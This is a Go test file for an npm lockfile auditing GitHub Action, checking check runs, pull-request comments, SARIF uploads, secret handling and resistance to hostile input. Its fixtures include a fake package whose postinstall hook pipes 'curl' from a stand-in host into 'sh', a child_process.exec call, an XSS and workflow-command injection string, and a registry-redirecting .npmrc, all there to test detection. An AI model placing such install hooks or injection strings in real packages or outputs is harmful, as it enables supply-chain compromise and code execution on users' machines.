package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/amalfi-audit/audit/internal/github"
	"github.com/amalfi-audit/audit/internal/github/githubtest"
	"github.com/amalfi-audit/audit/internal/npmtest"
)

// newPublishTest is newActionTest with everything that is published switched on.
func newPublishTest(t *testing.T) *actionTest {
	t.Helper()
	a := newActionTest(t)
	a.env["INPUT_CHECKS"], a.env["INPUT_COMMENT"], a.env["INPUT_UPLOAD-SARIF"] = "true", github.CommentOnFindings, "true"
	a.env["INPUT_SARIF-FILE"] = "audit.sarif"
	a.env["GITHUB_SERVER_URL"], a.env["GITHUB_RUN_ID"] = "https://github.invalid", "77"
	return a
}

// pull is a pull request from left-pad@1.3.0 to left-pad@1.3.1, or 1.3.2 where
// that is tampered with.
func (a *actionTest) pull(to npmtest.Files) []byte {
	version := "left-pad@1.3.1"
	if _, ok := to["tampered.txt"]; ok {
		version = "left-pad@1.3.2"
	}
	return a.bump(
		githubtest.Files{"package-lock.json": a.lock(map[string]npmtest.Files{"left-pad@1.3.0": harmless})},
		githubtest.Files{"package-lock.json": a.lock(map[string]npmtest.Files{version: to})})
}

const steeringFile = "registry=https://evil.invalid/\n"

func TestActionCheckRun(t *testing.T) {
	lock := func(a *actionTest, files npmtest.Files) githubtest.Files {
		return githubtest.Files{"package-lock.json": a.lock(map[string]npmtest.Files{"left-pad@1.3.0": files})}
	}
	for name, test := range map[string]struct {
		failOn      string
		head        func(a *actionTest) githubtest.Files
		code        int
		conclusion  string
		title       string
		annotations []githubtest.CheckAnnotation
	}{
		"blocked": {"", func(a *actionTest) githubtest.Files { return lock(a, tampered) }, exitFindings, "failure", "block: 1 blocked, 0 warned, 0 inconclusive",
			[]githubtest.CheckAnnotation{{Path: "package-lock.json", StartLine: 6, EndLine: 6, Level: "failure", Title: "Amalfi Audit: block left-pad@1.3.0"}}},
		"warned": {"", func(a *actionTest) githubtest.Files {
			files := lock(a, harmless)
			files[".npmrc"] = steeringFile
			return files
		}, exitOK, "neutral", "warn: 0 blocked, 1 warned, 0 inconclusive",
			[]githubtest.CheckAnnotation{{Path: ".npmrc", StartLine: 1, EndLine: 1, Level: "warning", Title: "Amalfi Audit: warn"}}},
		"warned, which fails": {"warn", func(a *actionTest) githubtest.Files {
			files := lock(a, harmless)
			files[".npmrc"] = steeringFile
			return files
		}, exitFindings, "failure", "warn: 0 blocked, 1 warned, 0 inconclusive",
			[]githubtest.CheckAnnotation{{Path: ".npmrc", StartLine: 1, EndLine: 1, Level: "warning", Title: "Amalfi Audit: warn"}}},
		"incomplete": {"never", func(a *actionTest) githubtest.Files { return githubtest.Files{"sub/package-lock.json": "<<<<<<<"} }, exitIncomplete,
			"action_required", "inconclusive: 0 blocked, 0 warned, 1 inconclusive",
			[]githubtest.CheckAnnotation{{Path: "sub/package-lock.json", StartLine: 1, EndLine: 1, Level: "warning", Title: "Amalfi Audit: not read"}}},
		"clean": {"", func(a *actionTest) githubtest.Files {
			files := lock(a, harmless)
			files["x"] = ""
			return files
		}, exitOK, "success", "clean: 0 blocked, 0 warned, 0 inconclusive", nil},
	} {
		t.Run(name, func(t *testing.T) {
			a := newPublishTest(t)
			a.env["INPUT_FAIL-ON"] = test.failOn
			base := githubtest.Files{"package.json": `{"name":"project"}`}
			if name == "clean" || name == "warned" || name == "warned, which fails" {
				base = lock(a, harmless)
			}
			r := a.run(t, "pull_request", a.bump(base, test.head(a)), "")
			if r.code != test.code {
				t.Errorf("exit code %d, want %d", r.code, test.code)
			}
			if got := commands(t, r.log); len(got) != 0 {
				t.Errorf("annotated twice: %q", got)
			}
			runs := a.api.CheckRuns()
			if len(runs) != 1 {
				t.Fatalf("%d check runs", len(runs))
			}
			run := runs[0]
			if run.Name != "Amalfi Audit" || run.Conclusion != test.conclusion || run.Title != test.title ||
				run.URL != "https://github.invalid/owner/project/actions/runs/77" || !strings.Contains(run.Summary, "## ") {
				t.Errorf("check run %+v", run)
			}
			for i := range run.Annotations {
				if got := &run.Annotations[i]; got.Message == "" {
					t.Errorf("annotation %d has no message", i)
				} else {
					got.Message, got.RawDetails = "", ""
				}
			}
			if fmt.Sprint(run.Annotations) != fmt.Sprint(test.annotations) {
				t.Errorf("annotations %+v, want %+v", run.Annotations, test.annotations)
			}
		})
	}
}

// TestActionManyAnnotations has as many lockfiles that cannot be read as need
// several requests and more text than a check run or a comment takes, and one
// remark without a place.
func TestActionManyAnnotations(t *testing.T) {
	const lockfiles = 500
	a := newPublishTest(t)
	a.env["INPUT_PATHS"] = "apps\nnowhere"
	files := githubtest.Files{"package.json": "{}"}
	for i := range lockfiles {
		files[fmt.Sprintf("apps/%d/%s/package-lock.json", i, strings.Repeat("ä", 90))] = "<<<<<<<"
	}
	r := a.run(t, "pull_request", a.bump(githubtest.Files{"package.json": "{}"}, files), "")
	runs, comments := a.api.CheckRuns(), a.api.Comments(12)
	if len(runs) != 1 || len(runs[0].Annotations) != lockfiles || len(comments) != 1 {
		t.Fatalf("%d check runs, %d comments", len(runs), len(comments))
	}
	if got := commands(t, r.log); r.code != exitIncomplete || len(got) != 0 {
		t.Errorf("exit code %d, commands %q", r.code, got)
	}
	if runs[0].Name != "Amalfi Audit: apps, nowhere" {
		t.Errorf("the check run is named %q", runs[0].Name)
	}
	for where, text := range map[string]string{"check run": runs[0].Summary, "comment": comments[0].Body} {
		if !strings.Contains(text, "**Left out** to keep this text within") || len(text) < 60_000 {
			t.Errorf("the %s has %d bytes and does not tell what is left out", where, len(text))
		}
	}
}

// TestActionReadOnly has tokens that can write nothing, as on pull requests of
// forks and of Dependabot, and none at all.
func TestActionReadOnly(t *testing.T) {
	const refused = "Resource not accessible by integration"
	for name, status := range map[string]int{"fork": 403, "hidden": 404, "no token": 0} {
		t.Run(name, func(t *testing.T) {
			a := newPublishTest(t)
			payload := a.pull(tampered)
			if status == 0 {
				a.env["INPUT_TOKEN"] = ""
			}
			for _, path := range []string{"/check-runs", "/issues/", "/code-scanning/"} {
				a.api.Fail(githubtest.Fault{Path: path, Status: max(status, 403), Message: refused})
			}
			r := a.run(t, "pull_request", payload, "")
			got := commands(t, r.log)
			if r.code != exitFindings || r.outputs["outcome"] != "block" || !strings.Contains(r.summary, "left-pad") {
				t.Errorf("exit code %d, outputs %v", r.code, r.outputs)
			}
			if count(got, "::error file=package-lock.json,line=6,") != 1 || count(got, "::notice title=Amalfi Audit::") != 2 || len(got) != 3 {
				t.Errorf("commands %q", got)
			}
			if !strings.Contains(r.log, "\nThe check run was not written") {
				t.Error("the log does not tell of the check run")
			}
			writes := 0
			for _, q := range a.api.Requests() {
				if q.Method != "GET" {
					writes++
				}
			}
			if status == 0 && writes != 0 || len(a.api.CheckRuns())+len(a.api.Comments(12))+len(a.api.Uploads()) != 0 {
				t.Errorf("%d writes", writes)
			}
		})
	}
}

// TestActionPublishFailures lets each endpoint fail in each way: what the audit
// says must stay the same everywhere else.
func TestActionPublishFailures(t *testing.T) {
	faults := map[string]githubtest.Fault{
		"401":       {Status: 401, Message: "Bad credentials"},
		"403":       {Status: 403, Message: "no"},
		"404":       {Status: 404, Message: "Not Found"},
		"409":       {Status: 409, Message: "Conflict"},
		"422":       {Status: 422, Message: "x\n::error::y"},
		"429":       {Status: 429, Header: http.Header{"Retry-After": {"0"}}},
		"503":       {Status: 503, Header: http.Header{"Retry-After": {"0"}}},
		"secondary": {Status: 403, Header: http.Header{"Retry-After": {"3600"}}, Message: "You have exceeded a secondary rate limit."},
		"no JSON":   {Status: 200, Body: []byte("<html>\n::error::y")},
		"502":       {Status: 502, Times: 1},
		"cut off":   {Times: 1},
	}
	for _, endpoint := range []githubtest.Fault{
		{Method: "POST", Path: "/check-runs"}, {Method: "GET", Path: "/issues/"}, {Method: "POST", Path: "/issues/"},
		{Method: "PATCH", Path: "/issues/"}, {Method: "POST", Path: "/code-scanning/"},
	} {
		for name, fault := range faults {
			t.Run(endpoint.Method+endpoint.Path+name, func(t *testing.T) {
				t.Parallel()
				a := newPublishTest(t)
				payload := a.pull(tampered)
				if endpoint.Method == "PATCH" {
					a.api.AddComment(12, "github-actions[bot]", true, github.Marker("amalfi-audit")+"\nold")
				}
				fault.Method, fault.Path = endpoint.Method, endpoint.Path
				a.api.Fail(fault)
				r := a.run(t, "pull_request", payload, "")
				if r.code != exitFindings || r.outputs["outcome"] != "block" || r.outputs["blocked"] != "1" || r.outputs["sarif-file"] != "audit.sarif" ||
					!strings.Contains(r.summary, "left-pad") || r.stderr != "" {
					t.Errorf("exit code %d, outputs %v, stderr %q", r.code, r.outputs, r.stderr)
				}
				if data, err := os.ReadFile(filepath.Join(a.dir, "audit.sarif")); err != nil || !json.Valid(data) {
					t.Errorf("the SARIF file: %v", err)
				}
				got := commands(t, r.log)
				if count(got, "::error::") != 0 {
					t.Errorf("the API's message became a command: %q", got)
				}
				checks := a.api.CheckRuns()
				annotated := count(got, "::error file=package-lock.json,") == 1
				if written := endpoint.Path != "/check-runs"; len(checks) != 1 && written || annotated == written {
					t.Errorf("%d check runs, commands %q", len(checks), got)
				}
				// Whoever asked for something hears that it is missing.
				missing := count(got, "::warning title=Amalfi Audit::") + count(got, "::notice title=Amalfi Audit::") + strings.Count(r.log, "\nThe check run was not written")
				repeated := fault.Times == 1 && !(endpoint.Method == "POST" && endpoint.Path != "/code-scanning/")
				if (missing == 0) != repeated {
					t.Errorf("%d remarks: %q", missing, got)
				}
				if len(checks) > 1 || len(a.api.Comments(12)) > 1 {
					t.Error("something is there twice")
				}
			})
		}
	}
}

// TestActionComment has the runs of one pull request, one after the other.
func TestActionComment(t *testing.T) {
	for _, user := range []string{"", "octocat"} {
		for _, checks := range []string{"true", "false"} {
			t.Run(user+checks, func(t *testing.T) {
				a := newPublishTest(t)
				a.env["INPUT_CHECKS"] = checks
				a.api.User = user
				author := "github-actions[bot]"
				if user != "" {
					author = user
				}
				if user != "" && checks == "true" {
					// Only apps can write check runs.
					a.api.Fail(githubtest.Fault{Path: "/check-runs", Status: 403, Message: "You must authenticate via a GitHub App."})
				}
				clean, bad := a.pull(harmless), a.pull(tampered)
				forged := github.Marker("amalfi-audit") + "\n## Amalfi Audit: clean"
				a.api.AddComment(12, "attacker", false, forged)
				runs := func(payload []byte) []githubtest.Comment {
					a.run(t, "pull_request_target", payload, "")
					return a.api.Comments(12)
				}
				if got := runs(clean); len(got) != 1 {
					t.Fatalf("commented without findings: %+v", got)
				}
				got := runs(bad)
				if len(got) != 2 || got[1].Author != author || !strings.Contains(got[1].Body, "Amalfi Audit: block") || !strings.Contains(got[1].Body, "left-pad") {
					t.Fatalf("with findings: %+v", got)
				}
				if got = runs(bad); len(got) != 2 || got[1].Edits != 1 {
					t.Fatalf("the second run: %+v", got)
				}
				if got = runs(clean); len(got) != 2 || got[1].Edits != 2 || !strings.Contains(got[1].Body, "Amalfi Audit: clean") || strings.Contains(got[1].Body, "block**") {
					t.Fatalf("without findings again: %+v", got)
				}
				if got[0].Body != forged || got[0].Edits != 0 {
					t.Errorf("somebody else's comment is changed: %+v", got[0])
				}
				a.env["INPUT_PATHS"] = "apps"
				if got = runs(bad); len(got) != 3 {
					t.Errorf("other paths: %+v", got)
				}
			})
		}
	}
}

func TestActionCommentWhen(t *testing.T) {
	a := newPublishTest(t)
	payload := a.pull(harmless)
	a.env["INPUT_COMMENT"] = github.CommentNever
	a.run(t, "pull_request", payload, "")
	for _, q := range a.api.Requests() {
		if strings.Contains(q.Path, "/issues/") {
			t.Errorf("never: %s %s", q.Method, q.Path)
		}
	}
	a.env["INPUT_COMMENT"] = github.CommentAlways
	a.run(t, "pull_request", payload, "")
	if got := a.api.Comments(12); len(got) != 1 || !strings.Contains(got[0].Body, "Amalfi Audit: clean") {
		t.Errorf("always: %+v", got)
	}
	head := a.api.Commit(actionProject, githubtest.Files{"package-lock.json": a.lock(map[string]npmtest.Files{"left-pad@1.3.1": tampered})})
	a.env["GITHUB_REF"] = "refs/heads/main"
	if r := a.run(t, "push", githubtest.PushEvent(actionProject, "", head), head); r.code != exitFindings {
		t.Errorf("exit code %d", r.code)
	}
	if got := a.api.Comments(12); len(got) != 1 {
		t.Errorf("a push comments: %+v", got)
	}
}

func TestActionUpload(t *testing.T) {
	a := newPublishTest(t)
	a.env["INPUT_PATHS"] = "."
	a.env["GITHUB_REF"] = "refs/pull/12/merge"
	a.run(t, "pull_request", a.pull(tampered), "")
	head := a.api.Commit(actionProject, githubtest.Files{"package-lock.json": a.lock(map[string]npmtest.Files{"left-pad@1.3.1": tampered})})
	a.env["GITHUB_REF"] = "refs/heads/main"
	a.run(t, "schedule", githubtest.ScheduleEvent(), head)
	uploads := a.api.Uploads()
	if len(uploads) != 2 || uploads[0].Ref != "refs/pull/12/head" || uploads[1].Ref != "refs/heads/main" || uploads[1].Commit != head {
		t.Fatalf("%d uploads", len(uploads))
	}
	for _, u := range uploads {
		if !bytes.Contains(u.SARIF, []byte(`"automationDetails":{"id":"amalfi-audit/./"}`)) || !bytes.Contains(u.SARIF, []byte("left-pad")) {
			t.Errorf("the log: %.300s", u.SARIF)
		}
	}
}

// TestActionFailurePublished has an audit that cannot be made after one that
// could: what it left must not go on to say that all is well.
func TestActionFailurePublished(t *testing.T) {
	a := newPublishTest(t)
	payload := a.pull(harmless)
	a.env["INPUT_COMMENT"] = github.CommentAlways
	a.run(t, "pull_request", payload, "")
	a.api.Fail(githubtest.Fault{Path: "/compare/", Status: 422, Message: "no @everyone </details> https://evil.invalid"})
	r := a.run(t, "pull_request", payload, "")
	if r.code != exitIncomplete || count(commands(t, r.log), "::error title=Amalfi Audit::") != 1 {
		t.Errorf("exit code %d, log %s", r.code, r.log)
	}
	runs, comments := a.api.CheckRuns(), a.api.Comments(12)
	if len(runs) != 2 || runs[1].Conclusion != "action_required" || runs[1].Title != "The audit could not be made" {
		t.Errorf("check runs %+v", runs)
	}
	if len(comments) != 1 || comments[0].Edits != 1 || !strings.Contains(comments[0].Body, "nothing is known to be clean") {
		t.Errorf("comments %+v", comments)
	}
	if rest := outsideCode(comments[0].Body); strings.Contains(rest, "@") || strings.Contains(rest, "https:") {
		t.Errorf("the error's text is no code: %s", rest)
	}
}

var (
	codeElement = regexp.MustCompile(`<code>[^<]*</code>`)
	element     = regexp.MustCompile(`</?[a-z!][^>]*>`)
	ownElements = regexp.MustCompile(`^</?(details|summary|sub|code|span)>$|^<br>$|^<!-- amalfi-audit:[0-9a-f]{16} -->$`)
)

// withoutCode is Markdown without code spans and elements: a span ends at as many
// backticks as it begins with.
func withoutCode(markdown string) string {
	var b strings.Builder
	for line := range strings.Lines(markdown) {
		for {
			i := strings.IndexByte(line, '`')
			if i < 0 {
				break
			}
			n := len(line[i:]) - len(strings.TrimLeft(line[i:], "`"))
			fence := regexp.MustCompile("(^|[^`])`{" + fmt.Sprint(n) + "}($|[^`])")
			end := fence.FindStringIndex(line[i+n:])
			if end == nil {
				break
			}
			b.WriteString(line[:i])
			line = strings.TrimLeft(line[i+n+end[0]+1:], "`")
		}
		b.WriteString(line)
	}
	return codeElement.ReplaceAllString(b.String(), "")
}

// markupIn returns what in rendered Markdown would be somebody else's: mentions,
// links, images and elements.
func markupIn(markdown string) []string {
	text := withoutCode(markdown)
	var out []string
	for _, e := range element.FindAllString(text, -1) {
		if !ownElements.MatchString(e) {
			out = append(out, e)
		}
	}
	for _, s := range []string{"@", "](", "://", "www.", "![", "\x1b", "\u202e", "\u200b"} {
		if strings.Contains(text, s) {
			out = append(out, s)
		}
	}
	return out
}

func TestActionMarkupIn(t *testing.T) {
	for text, want := range map[string]int{
		"hi @octocat": 1, "[x](y)": 1, "https://a.invalid": 1, "<img src=x>": 1, "<!-- x -->": 1, "www.a.invalid": 1, "`@a` <b>": 1, "`` ` @a": 1,
		"`@octocat` `` [x](y) ` <b> `` <code>@a</code> <details>\n": 0,
	} {
		if got := markupIn(text); len(got) != want {
			t.Errorf("%q: %q, want %d", text, got, want)
		}
	}
}

// TestActionPublishHostile has names, paths, code and configuration that try to
// be more than text, wherever the result is published.
func TestActionPublishHostile(t *testing.T) {
	const text = "@octocat @acme/team #1 GH-1 www.evil.invalid https://evil.invalid [x](https://evil.invalid) ![x](y) <img src=x onerror=alert(1)> " +
		"</details></code> `@octocat` :tada: \x1b[2J \u202e\u200b <!-- amalfi-audit:0 --> |\n::error::y\n| @octocat"
	a := newPublishTest(t)
	a.env["INPUT_COMMENT"] = github.CommentAlways
	quoted, err := json.Marshal(map[string]any{"name": "evil", "version": "1.3.1",
		"scripts": map[string]string{"postinstall": "curl -s https://collector.invalid/x | sh; echo " + text}})
	if err != nil {
		t.Fatal(err)
	}
	flat := strings.NewReplacer("/", "", "*", "", "\n", "").Replace(text)
	evil := npmtest.Files{"package.json": string(quoted), "index" + flat + ".js": "require('child_process').exec('" + strings.ReplaceAll(text, "\n", "\\n") + "')"}
	name, err := json.Marshal("node_modules/x" + text)
	if err != nil {
		t.Fatal(err)
	}
	payload := a.bump(githubtest.Files{"package.json": "{}"}, githubtest.Files{
		"package-lock.json":                  a.lock(map[string]npmtest.Files{"evil@1.3.1": evil, "left-pad@1.3.2": tampered}),
		flat + "/package-lock.json":          "<<<<<<< " + text,
		"other/package-lock.json":            fmt.Sprintf(`{"lockfileVersion":3,"packages":{"":{},%s:{"version":%s,"resolved":%s}}}`, name, name, name),
		".npmrc":                             "registry=" + text,
		".github/workflows/" + flat + ".yml": "on: push",
	})
	r := a.run(t, "pull_request", payload, "")
	if r.code != exitFindings || len(r.outputs) != 7 || r.outputs["outcome"] != "block" {
		t.Errorf("exit code %d, outputs %v", r.code, r.outputs)
	}
	if got := commands(t, r.log); len(got) != 0 {
		t.Errorf("commands %q", got)
	}
	runs, comments := a.api.CheckRuns(), a.api.Comments(12)
	if len(runs) != 1 || len(comments) != 1 {
		t.Fatalf("%d check runs, %d comments", len(runs), len(comments))
	}
	for where, markdown := range map[string]string{"summary": r.summary, "check run": runs[0].Summary, "comment": comments[0].Body} {
		if !strings.Contains(markdown, "evil") || !strings.Contains(markdown, "Workflows are changed") {
			t.Errorf("the %s does not tell of it:\n%s", where, markdown)
		}
		if got := markupIn(markdown); len(got) != 0 {
			t.Errorf("the %s has %q:\n%s", where, got, markdown)
		}
	}
	shown := runs[0].Title
	for _, an := range runs[0].Annotations {
		shown += an.Title + an.Message + an.RawDetails
	}
	if strings.ContainsAny(shown, "\x1b\r\u202e\u200b") || !strings.Contains(shown, "octocat") {
		t.Errorf("the annotations: %q", shown)
	}
	if len(a.api.Uploads()) != 1 {
		t.Error("nothing was uploaded")
	}
}

// TestActionReport reads the JSON report that later steps get.
func TestActionReport(t *testing.T) {
	a := newActionTest(t)
	outside := filepath.Join(a.home, "outside")
	if err := os.Symlink(outside, filepath.Join(a.dir, reportFile)); err != nil {
		t.Fatal(err)
	}
	r := a.run(t, "pull_request", a.pull(tampered), "")
	data, err := os.ReadFile(filepath.Join(a.dir, r.outputs["report-file"]))
	if err != nil || !json.Valid(data) || !bytes.Contains(data, []byte("left-pad")) {
		t.Errorf("the report: %v, %.200s", err, data)
	}
	if _, err := os.Stat(outside); !os.IsNotExist(err) {
		t.Errorf("written through a link: %v", err)
	}
	if err := os.Remove(filepath.Join(a.dir, reportFile)); err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll(filepath.Join(a.dir, reportFile, "full"), 0o755); err != nil {
		t.Fatal(err)
	}
	r = a.run(t, "pull_request", a.pull(harmless), "")
	if r.code != exitOK || r.outputs["report-file"] != "" || count(commands(t, r.log), "::warning title=Amalfi Audit::the JSON report") != 1 {
		t.Errorf("a folder in its place: exit code %d, outputs %v", r.code, r.outputs)
	}
}

// TestActionNPMRC has a registry that wants a token, which the input npmrc
// brings. It goes to that registry alone and is not shown.
func TestActionNPMRC(t *testing.T) {
	const secret = "npm-secret-0123456789"
	a, other := newActionTest(t), npmtest.NewServer()
	defer other.Close()
	payload := a.pull(harmless)
	host := strings.TrimPrefix(a.registry.URL, "http:")
	a.registry.RequireToken("/", secret)
	a.env["INPUT_NPMRC"] = fmt.Sprintf("registry=%s/\n@acme:registry=%s/\n%s/:_authToken=%s\n", a.registry.URL, other.URL, host, secret)
	a.env["INPUT_REGISTRY"] = ""
	a.authorization = "Bearer " + secret
	for name, test := range map[string]struct {
		npmrc string
		code  int
	}{
		"valid":      {a.env["INPUT_NPMRC"], exitOK},
		"no address": {"registry=https://user:" + secret + "@[x/\n//x/:_authToken=" + secret, exitUsage},
		"no INI":     {"[" + secret + "\n", exitUsage},
		"no host":    {a.env["INPUT_NPMRC"] + "_authToken=" + secret + "\n", exitOK},
		"no base64":  {a.env["INPUT_NPMRC"] + host + "/:_password=%%" + secret + "\n", exitUsage},
		"control":    {a.env["INPUT_NPMRC"] + host + "/:_authToken=\"a\\n" + secret + "\"\n", exitUsage},
		"variable":   {a.env["INPUT_NPMRC"] + "//other.invalid/:_authToken=${NOT_SET}\n", exitOK},
	} {
		a.env["INPUT_NPMRC"] = test.npmrc
		r := a.run(t, "pull_request", payload, "")
		if r.code != test.code {
			t.Errorf("%s: exit code %d, want %d", name, r.code, test.code)
		}
		if strings.Contains(r.log+r.stderr+r.summary+fmt.Sprint(r.outputs), secret) {
			t.Errorf("%s: the token is shown", name)
		}
	}
	for _, q := range other.Requests() {
		t.Errorf("the other registry is asked: %s", q.Path)
	}
	for _, q := range a.api.Requests() {
		if strings.Contains(q.Authorization, secret) {
			t.Error("GitHub's API is sent the registry's token")
		}
	}
}

// TestActionConfiguration has the project's configuration in the base's tip, in
// the merge base and in the head. The tip's counts.
func TestActionConfiguration(t *testing.T) {
	const warn, never, block = "fail-on: warn\n", "fail-on: never\n", "fail-on: block\n"
	for name, test := range map[string]struct {
		file               string
		root, tip, head    string // "" for no file
		mode, failOn       string
		code               int
		changed, undefined bool
	}{
		"the tip's":           {".amalfi.yml", never, warn, never, "auto", "", exitFindings, false, false},
		"the head's":          {".amalfi.yml", "", "", warn, "auto", "", exitOK, true, false},
		"the head's, tree":    {".amalfi.yml", "", block, never, "tree", "", exitFindings, false, false},
		"removed by the head": {".amalfi.yml", warn, warn, "", "auto", "", exitFindings, true, false},
		"input before it":     {".amalfi.yml", warn, warn, warn, "auto", "block", exitOK, false, false},
		"another name":        {"config/audit.yml", "", warn, "", "auto", "", exitFindings, false, false},
		"another, absent":     {"config/audit.yml", "", "", warn, "auto", "", exitOK, true, true},
		"broken in the tip":   {".amalfi.yml", "", "nonsense: 1\n", "", "auto", "", exitUsage, false, false},
		"broken in the head":  {".amalfi.yml", "", "", "nonsense: 1\n", "auto", "", exitOK, true, false},
	} {
		t.Run(name, func(t *testing.T) {
			a := newActionTest(t)
			a.env["INPUT_MODE"], a.env["INPUT_FAIL-ON"], a.env["INPUT_CONFIG"] = test.mode, test.failOn, test.file
			lock := a.lock(map[string]npmtest.Files{"left-pad@1.3.0": harmless})
			if test.mode == "tree" { // where changed files are no finding
				lock = a.lock(map[string]npmtest.Files{"left-pad@1.3.2": tampered})
			}
			files := func(config string, more ...string) githubtest.Files {
				f := githubtest.Files{"package-lock.json": lock}
				if config != "" {
					f[test.file] = config
				}
				for _, m := range more {
					f[m] = steeringFile
				}
				return f
			}
			root := a.api.Commit(actionProject, files(test.root))
			tip := a.api.Commit(actionProject, files(test.tip, "readme"), root)
			head := a.api.Commit("fork/project", files(test.head, ".npmrc"), root)
			a.api.PullRequest(actionProject, head)
			r := a.run(t, "pull_request", githubtest.PullRequestEvent(actionProject, "fork/project", tip, head), "")
			if r.code != test.code {
				t.Errorf("exit code %d, want %d", r.code, test.code)
			}
			for where, out := range map[string]string{"log": r.log, "summary": r.summary} {
				if got := strings.Contains(out, "is changed: this audit"); got != test.changed {
					t.Errorf("the %s tells of a change: %t\n%s", where, got, out)
				}
				if got := strings.Contains(out, "the defaults hold"); got != test.undefined {
					t.Errorf("the %s tells that there is no file: %t\n%s", where, got, out)
				}
			}
		})
	}
}

// TestActionWorkflowNotice has a pull request that changes workflows.
func TestActionWorkflowNotice(t *testing.T) {
	a := newActionTest(t)
	lock := a.lock(map[string]npmtest.Files{"left-pad@1.3.0": harmless})
	base := githubtest.Files{"package-lock.json": lock, ".github/workflows/kept.yml": "a", ".github/workflows/gone.yml": "a"}
	head := githubtest.Files{"package-lock.json": lock, ".github/workflows/kept.yml": "a", ".github/CODEOWNERS": "x", "workflows/x.yml": "y"}
	for i := range 6 {
		head[fmt.Sprintf(".github/workflows/new-%d.yml", i)] = "b"
	}
	r := a.run(t, "pull_request", a.bump(base, head), "")
	want := `Workflows are changed, which decide whether and how audits are made: ".github/workflows/gone.yml", ".github/workflows/new-0.yml", ` +
		`".github/workflows/new-1.yml", ".github/workflows/new-2.yml", ".github/workflows/new-3.yml" and 2 more`
	if got := strings.Join(strings.Fields(r.log), " "); r.code != exitOK || !strings.Contains(got, want) {
		t.Errorf("exit code %d, the log has no %q", r.code, want)
	}
	if len(commands(t, r.log)) != 0 || r.outputs["outcome"] != "clean" {
		t.Errorf("outputs %v", r.outputs)
	}
}

// TestActionRenamedLockfile has a lockfile that is moved with one version
// changed, in a pull request that changes more files than GitHub compares.
func TestActionRenamedLockfile(t *testing.T) {
	a := newActionTest(t)
	base := githubtest.Files{"old/package-lock.json": a.lock(map[string]npmtest.Files{"kept@1.0.0": harmless, "left-pad@1.3.0": harmless})}
	head := githubtest.Files{"new/package-lock.json": a.lock(map[string]npmtest.Files{"kept@1.0.0": harmless, "left-pad@1.3.1": tampered})}
	for i := range 3100 {
		head[fmt.Sprintf("src/%d.js", i)] = "1"
	}
	head["vendored/"] = strings.Repeat("d", 40) // a submodule
	r := a.run(t, "pull_request", a.bump(base, head), "")
	if r.code != exitFindings || r.outputs["blocked"] != "1" || count(commands(t, r.log), "::error file=new/package-lock.json,line=11,") != 1 {
		t.Errorf("exit code %d, outputs %v", r.code, r.outputs)
	}
}
